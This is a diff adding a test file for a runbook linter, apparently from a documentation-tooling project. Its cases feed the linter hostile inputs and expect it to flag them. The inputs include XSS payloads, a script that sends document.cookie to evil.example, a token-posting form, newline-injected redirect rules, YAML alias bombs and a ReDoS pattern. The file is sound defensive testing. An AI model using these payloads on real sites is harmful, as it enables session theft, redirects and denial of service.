@@ -1,0 +1,130 @@
+/**
+ * Hostile runbooks, as a pull request could bring them: each case is a real project,
+ * checked whole, and must end in its exact findings within its time limit (the test's
+ * own timeout) — never a crash, a hang, or a clean report.
+ */
+import { afterAll, describe, expect, it } from 'vitest';
+import { checkProject } from '../../src/plugins/check/index.ts';
+import { ConfigError } from '../../src/plugins/runbook/config.ts';
+import { pretty } from '../../src/plugins/check/reporters.ts';
+import type { Diagnostic } from '../../src/plugins/runbook/diagnostic.ts';
+import { TODAY, type FileSpec } from '../fixtures/bad-input.ts';
+import { project, removeProjects } from '../fixtures/check-project.ts';
+
+afterAll(removeProjects);
+
+const C = 'src/content/runbooks/t/case.md';
+const M = 'src/content/runbooks/t/case.mdx';
+const REVIEWED = ['review:', '  log:', '    - { date: 2026-10-01, reviewer: "@ana", change: "First version" }'];
+/** A valid page: frontmatter lines 1–6, `extra` from line 7, the body from line 9 + extra.length. */
+const page = (extra: string[] = [], body = '') => ['---', 'title: Case', 'owner: "@ops-team"', ...REVIEWED, ...extra, '---', '', body].join('\n');
+const ALLOW = 'shortlinks:\n  allowHosts: [status.example.com]\n';
+/** An alias bomb: 26 levels of nine aliases each, a few hundred bytes. */
+const BOMB = ['  a: &a [x, x, x, x, x, x, x, x, x]', ...'bcdefghijklmnopqrstuvwxyz'.split('').map((l, i) => `  ${l}: &${l} [${Array(9).fill(`*${'abcdefghijklmnopqrstuvwxyz'[i]}`).join(', ')}]`)];
+
+interface Case {
+  name: string;
+  files: Record<string, FileSpec>;
+  config?: string;
+  /** Every error and warning of the project as `[ruleId, file, line]`. */
+  expected: [string, string, number][];
+  /** A substring of the first finding's message. */
+  message?: string;
+  /** The time limit, in ms. */
+  within?: number;
+}
+
+const cases: Case[] = [
+  // --- _redirects and URLs: a destination must be written exactly as it is published ---
+  { name: 'a shortlink URL with a newline that writes a redirect rule', config: ALLOW, files: { [C]: page(['shortlinks: [{ slug: x, url: "https://status.example.com/\\n/* https://evil.example/:splat 301!\\n#" }]']) }, expected: [['shortlink-destination', C, 7]], message: 'written differently from how it is published' },
+  { name: 'a shortlink URL with a tab', config: ALLOW, files: { [C]: page(['shortlinks: [{ slug: x, url: "https://status.example.com/\\tx" }]']) }, expected: [['shortlink-destination', C, 7]] },
+  { name: 'a shortlink URL with a space', config: ALLOW, files: { [C]: page(['shortlinks: [{ slug: x, url: "https://status.example.com/a b" }]']) }, expected: [['shortlink-destination', C, 7]] },
+  { name: 'a shortlink URL that closes an attribute', config: ALLOW, files: { [C]: page(['shortlinks: [{ slug: x, url: "https://status.example.com/\\"><script>" }]']) }, expected: [['shortlink-destination', C, 7]] },
+  { name: 'a shortlink URL with a U+2028 line separator', config: ALLOW, files: { [C]: page(['shortlinks: [{ slug: x, url: "https://status.example.com/\\u2028x" }]']) }, expected: [['shortlink-destination', C, 7]] },
+  { name: 'a shortlink URL written without the slash it is published with', config: ALLOW, files: { [C]: page(['shortlinks: [{ slug: x, url: "https://status.example.com" }]']) }, expected: [['shortlink-destination', C, 7]], message: '"https://status.example.com/"' },
+  { name: 'a shortlink to a javascript: URL', config: ALLOW, files: { [C]: page(['shortlinks: [{ slug: x, url: "javascript:alert(1)" }]']) }, expected: [['shortlink-destination', C, 7]] },
+  { name: 'a shortlink anchor with a newline and a rule in it', files: { [C]: page(['shortlinks: [{ slug: x, anchor: "a\\n/* https://evil.example 301!" }]']) }, expected: [['shortlink-anchor-missing', C, 7]] },
+  { name: 'a slug: with a newline', files: { [C]: page(['slug: "a\\n/* https://evil.example 301!"']) }, expected: [['page-url-conflict', C, 7]] },
+  { name: 'a shortlink slug with a space and a rule', files: { [C]: page(['shortlinks: ["x /* https://evil.example 301!"]']) }, expected: [['shortlink-invalid', C, 7]] },
+
+  // --- YAML with limits ---
+  { name: 'an alias bomb in severity', files: { [C]: page(['bomb:', ...BOMB, 'severity: *z']) }, expected: [['frontmatter-yaml', C, 2]], within: 5000 },
+  { name: 'an alias bomb in an unknown key', files: { [C]: page(['lol:', ...BOMB]) }, expected: [['frontmatter-yaml', C, 2]], within: 5000 },
+  { name: 'an alias inside its own value', files: { [C]: page(['x: &a', '  b: *a']) }, expected: [['frontmatter-yaml', C, 2]] },
+  { name: 'frontmatter nested 20,000 levels deep', files: { [C]: page([`deep: ${'['.repeat(20_000)}${']'.repeat(20_000)}`]) }, expected: [['frontmatter-yaml', C, 7]], within: 10_000 },
+  { name: 'a 3 MB frontmatter value', files: { [C]: page([`description: "${'x'.repeat(3_000_000)}"`]) }, expected: [['file-too-large', C, 1]], within: 10_000 },
+  { name: 'an alias bomb in runbooks.config.yaml', config: `x: &a [1,1,1,1,1,1,1,1,1]\ny: &b [${Array(9).fill('*a').join(',')}]\nz: &c [${Array(9).fill('*b').join(',')}]\nw: [${Array(9).fill('*c').join(',')}]\n`, files: {}, expected: [['config-invalid', 'runbooks.config.yaml', 1]] },
+  { name: 'an alias bomb in an SLO file', files: { 'src/content/slos/queue-latency.yaml': `x: &a [1,1,1,1,1,1,1,1,1]\ny: &b [${Array(9).fill('*a').join(',')}]\nz: &c [${Array(9).fill('*b').join(',')}]\nw: [${Array(9).fill('*c').join(',')}]\n` }, expected: [['slo-invalid', 'src/content/slos/queue-latency.yaml', 1]] },
+  { name: 'an alias bomb in the severity ladder', files: { 'src/content/severity.yaml': `x: &a [1,1,1,1,1,1,1,1,1]\ny: &b [${Array(9).fill('*a').join(',')}]\nz: &c [${Array(9).fill('*b').join(',')}]\nlevels: [${Array(9).fill('*c').join(',')}]\n` }, expected: [['severity-ladder-invalid', 'src/content/severity.yaml', 1]] },
+
+  // --- Script in bodies ---
+  { name: 'a Markdown link to javascript:', files: { [C]: page([], '[x](javascript:alert(1))\n') }, expected: [['html-unsafe', C, 9]], message: 'a javascript: URL runs script' },
+  { name: 'a Markdown link to JaVaScRiPt: in mixed case', files: { [C]: page([], '[x](JaVaScRiPt:alert(1))\n') }, expected: [['html-unsafe', C, 9]] },
+  { name: 'a Markdown link whose scheme is spelled with an entity', files: { [C]: page([], '[x](&#106;avascript:alert(1))\n') }, expected: [['html-unsafe', C, 9]] },
+  { name: 'a Markdown autolink to vbscript:', files: { [C]: page([], '<vbscript:msgbox(1)>\n') }, expected: [['html-unsafe', C, 9]] },
+  { name: 'a Markdown link to a data: page', files: { [C]: page([], '[x](data:text/html;base64,PHNjcmlwdD4=)\n') }, expected: [['html-unsafe', C, 9]] },
+  { name: 'an inline PNG as data: is an image, not script', files: { [C]: page([], '![dot](data:image/png;base64,iVBORw0KGgo=)\n') }, expected: [] },
+  { name: 'a raw <a href="javascript:">', files: { [C]: page([], '<a href="javascript:alert(1)">x</a>\n') }, expected: [['html-unsafe', C, 9]] },
+  { name: 'a raw href with an entity inside the scheme', files: { [C]: page([], '<a href="jav&#x61;script:alert(1)">x</a>\n') }, expected: [['html-unsafe', C, 9]] },
+  { name: 'a raw href with a leading space and a tab inside the scheme', files: { [C]: page([], '<a href=" java\tscript:alert(1)">x</a>\n') }, expected: [['html-unsafe', C, 9]] },
+  { name: 'an <img onerror>', files: { [C]: page([], '<img src=x onerror=alert(1)>\n') }, expected: [['html-unsafe', C, 9], ['link-broken', C, 9]], message: 'onError' },
+  { name: 'an <iframe>', files: { [C]: page([], '<iframe src="https://evil.example/"></iframe>\n') }, expected: [['html-unsafe', C, 9]] },
+  { name: 'a <div onclick> deep inside other HTML, on a later line', files: { [C]: page([], '<details>\n<summary>More</summary>\n<p><span><div onclick="steal()">x</div></span></p>\n</details>\n') }, expected: [['html-unsafe', C, 11]] },
+  { name: 'a <script> block', files: { [C]: page([], '<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n') }, expected: [['html-unsafe', C, 9]] },
+  { name: 'an <svg onload>', files: { [C]: page([], '<svg onload="alert(1)"></svg>\n') }, expected: [['html-unsafe', C, 9]] },
+  { name: 'a <form> that posts elsewhere', files: { [C]: page([], '<form action="https://evil.example/"><input name="token"></form>\n') }, expected: [['html-unsafe', C, 9], ['html-unsafe', C, 9]] },
+  { name: 'a <meta http-equiv=refresh>', files: { [C]: page([], '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n') }, expected: [['html-unsafe', C, 9]] },
+  { name: 'a <base href>', files: { [C]: page([], '<base href="https://evil.example/">\n') }, expected: [['html-unsafe', C, 9]] },
+  { name: 'a <style> block', files: { [C]: page([], '<style>.rb-card { display: none }</style>\n') }, expected: [['html-unsafe', C, 9]] },
+  { name: 'a style attribute with expression()', files: { [C]: page([], '<span style="width: expression(alert(1))">x</span>\n') }, expected: [['html-unsafe', C, 9]] },
+  { name: 'an <img> whose data: URL is an SVG', files: { [C]: page([], '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">\n') }, expected: [['html-unsafe', C, 9]] },
+  { name: 'a JSX <a href="javascript:"> in MDX', files: { [M]: page([], '<a href="javascript:alert(1)">x</a>\n') }, expected: [['html-unsafe', M, 9]], message: 'Unsafe JSX' },
+  { name: 'a JSX element with a string event handler in MDX', files: { [M]: page([], '<div onClick="alert(1)">x</div>\n') }, expected: [['html-unsafe', M, 9]] },
+  { name: 'harmless HTML passes: details, kbd, a table, an https link, a public image', files: { [C]: page([], '<details><summary>Why</summary><kbd>Ctrl</kbd>-<kbd>C</kbd></details>\n\n<table><tr><td><a href="https://example.com/">x</a></td></tr></table>\n') }, expected: [] },
+  { name: 'a trusted repository may allow raw HTML', config: 'allowUnsafeHtml: true\n', files: { [C]: page([], '<iframe src="https://grafana.example/d/1"></iframe>\n') }, expected: [] },
+
+  // --- Values the tools interpret later ---
+  { name: 'a ReDoS pattern', files: { [C]: page(['vars: { NAME: { pattern: "^(a+)+$" } }'], '```bash run id=x safety=read-only\necho "$NAME"\n```\n') }, expected: [['var-pattern-unsafe', C, 7]], within: 10_000 },
+  { name: 'an empty confirm word on a destructive block', files: { [C]: page([], '```bash run id=x safety=destructive confirm=""\necho x\n```\n') }, expected: [['snippet-meta-invalid', C, 9]] },
+  { name: 'safety given twice, the safe one first', files: { [C]: page([], '```bash run id=x safety=read-only safety=destructive\necho x\n```\n') }, expected: [['snippet-meta-invalid', C, 9]] },
+];
+
+/** The findings of a project, as `runbook check` reports them (a broken runbooks.config.yaml is reported, not thrown). */
+function check(dir: string): Diagnostic[] {
+  try {
+    return checkProject(dir, { today: TODAY });
+  } catch (error) {
+    if (error instanceof ConfigError) return error.diagnostics;
+    throw error;
+  }
+}
+
+describe('check on hostile runbooks', () => {
+  it('has at least 40 cases', () => expect(cases.length).toBeGreaterThanOrEqual(40));
+
+  for (const c of cases) {
+    it(
+      c.name,
+      () => {
+        const found = check(project(c.files, c.config));
+        expect(found.map((d) => [d.ruleId, d.file, d.line])).toEqual(c.expected);
+        if (c.message) expect(found[0]?.message).toContain(c.message);
+        for (const d of found) expect(d.hint.length).toBeGreaterThan(10);
+      },
+      c.within ?? 5000,
+    );
+  }
+
+  it(
+    'reports 40,000 broken anchors in one 440 KB file in linear time, the pretty report capped per file',
+    () => {
+      const body = Array.from({ length: 40_000 }, (_, i) => `[a](#x${i})`).join(' ');
+      const found = check(project({ [C]: page([], `## Only heading\n\n${body}\n`) }));
+      expect(found.filter((d) => d.ruleId === 'link-anchor-broken')).toHaveLength(40_000);
+      const report = pretty({ diagnostics: found, files: 2 });
+      expect(report).toContain(`… and 39800 more in ${C} (every one is in --format json)`);
+      expect(report.split('\n').length).toBeLessThan(1000);
+    },
+    30_000,
+  );
+});
